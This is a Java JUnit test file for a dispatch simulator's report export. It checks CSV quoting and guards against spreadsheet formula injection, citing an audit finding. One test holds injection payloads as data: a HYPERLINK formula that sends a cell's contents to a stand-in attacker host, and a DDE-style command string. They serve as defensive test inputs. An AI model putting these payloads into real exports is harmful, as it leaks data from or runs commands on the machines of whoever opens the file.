package vigil.sim.report;

import static org.assertj.core.api.Assertions.assertThat;
import static vigil.sim.report.Reports.at;
import static vigil.sim.report.Reports.step;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.JsonNodeFactory;

/**
 * "The CSV and the JSON of each report agree." Every story's report is checked so (see {@link Reports#json}); here
 * the ids a CSV reader trips on: a comma and quotes, a line break, and a leading {@code #} that must not read as a
 * table's name. RFC 4180 quoting brings each back whole.
 */
class TheCsvSaysWhatTheJsonSays {

    @Test
    void idsWithCommasQuotesLineBreaksAndHashesComeBackWhole() {
        List<String> ids = List.of("CAD,\"1\"", "CAD\n2", "#3");
        StringBuilder steps = callsAndIncidents(ids, true);
        steps.append(step("10:01", "dsp1", "AssignUnit", "incidentId", "#3", "unitId", "U1"));
        Reports.Shift shift = Reports.Shift.of(Reports.shift(at("09:00").toString(), at("11:00").toString(), "",
                steps.toString()));
        Report report = shift.daris().report(at("09:00"), at("11:00"));

        JsonNode json = Reports.json(report); // asserts the agreement, table by table
        Map<String, CsvTables.Table> csv = CsvTables.parse(ReportCsv.text(report));
        CsvTables.Table delayed = csv.get("delayedAttendance");
        assertThat(delayed.rows()).hasSize(3);
        assertThat(List.of(delayed.row(0).get("incidentId"), delayed.row(1).get("incidentId"),
                delayed.row(2).get("incidentId"))).containsExactlyInAnyOrderElementsOf(ids);
        assertThat(csv.get("responseTimes.byBcu").rows()).extracting(r -> r.get(0))
                .containsExactlyInAnyOrderElementsOf(ids);
        assertThat(json.at("/responseTimes/byBcu").propertyNames()).containsExactlyInAnyOrderElementsOf(ids);
        assertThat(ReportCsv.text(report)).contains("\r\n\"#3\",I,").doesNotContain("\r\n#3");
    }

    /**
     * Audit 6: an incident id a call handler typed as {@code =HYPERLINK("http://…"&A1,"click")} was written as it was:
     * a live formula in whichever spreadsheet opened the download, sending the cell beside it to whoever wrote the
     * link. OWASP's advice: a text that starts as a formula (=, +, -, @, tab, CR) is written as text, a {@code '}
     * before it, and quoted; a number, or a leader alone, stays as it is; a reader of the CSV drops the {@code '} and
     * has the id back whole.
     */
    @Test
    void anIdThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndReadBackWhole() {
        List<String> ids = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1)", "\t=1", "'=2", "-7", "-", "'-");
        StringBuilder steps = callsAndIncidents(ids, false);
        Reports.Shift shift = Reports.Shift.of(Reports.shift(at("09:00").toString(), at("11:00").toString(), "",
                steps.substring(0, steps.length() - 2)));
        Report report = shift.daris().report(at("09:00"), at("11:00"));

        Reports.json(report); // the CSV, read back, still says what the JSON says
        String text = ReportCsv.text(report);
        for (String line : text.split("\r\n")) {
            assertThat(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
                    .doesNotStartWith("\"=").doesNotStartWith("\"+").doesNotStartWith("\"@").doesNotStartWith("\"-2");
        }
        assertThat(text).contains("\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",I,")
                .contains("\r\n\"'-2+3\",I,").contains("\r\n\"''=2\",I,").contains("\r\n-7,I,");
        List<String> back = CsvTables.parse(text).get("delayedAttendance").rows().stream().map(r -> r.get(0)).toList();
        assertThat(back).containsExactlyInAnyOrderElementsOf(ids);
        assertThat(ReportCsv.field("-12.5")).isEqualTo("-12.5");
        assertThat(ReportCsv.field("-")).isEqualTo("-");
        assertThat(ReportCsv.field("CAD-1")).isEqualTo("CAD-1");
    }

    @Test
    void aFieldIsQuotedOnlyWhenItMustBe() {
        assertThat(ReportCsv.field("CAD-1")).isEqualTo("CAD-1");
        assertThat(ReportCsv.field("")).isEqualTo("");
        assertThat(ReportCsv.field("a,b")).isEqualTo("\"a,b\"");
        assertThat(ReportCsv.field("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(ReportCsv.field("#1")).isEqualTo("\"#1\"");
        assertThat(ReportCsv.field("a\r\nb")).isEqualTo("\"a\r\nb\"");
    }

    /** For each id, a call and an I incident both named by it (in the BCU of that name, when {@code bcuToo}). */
    private static StringBuilder callsAndIncidents(List<String> ids, boolean bcuToo) {
        StringBuilder steps = new StringBuilder();
        for (String id : ids) {
            String json = JsonNodeFactory.instance.stringNode(id).toString();
            steps.append("{ \"at\": \"").append(at("10:00")).append("\", \"by\": \"ch1\", \"do\": \"RecordCall\", ")
                    .append("\"callId\": ").append(json).append(" },\n");
            steps.append("{ \"at\": \"").append(at("10:00")).append("\", \"by\": \"ch1\", \"do\": \"CreateIncident\", ")
                    .append("\"incidentId\": ").append(json).append(", \"callId\": ").append(json)
                    .append(", \"grade\": \"I\"").append(bcuToo ? ", \"bcu\": " + json : "").append(" },\n");
        }
        return steps;
    }
}
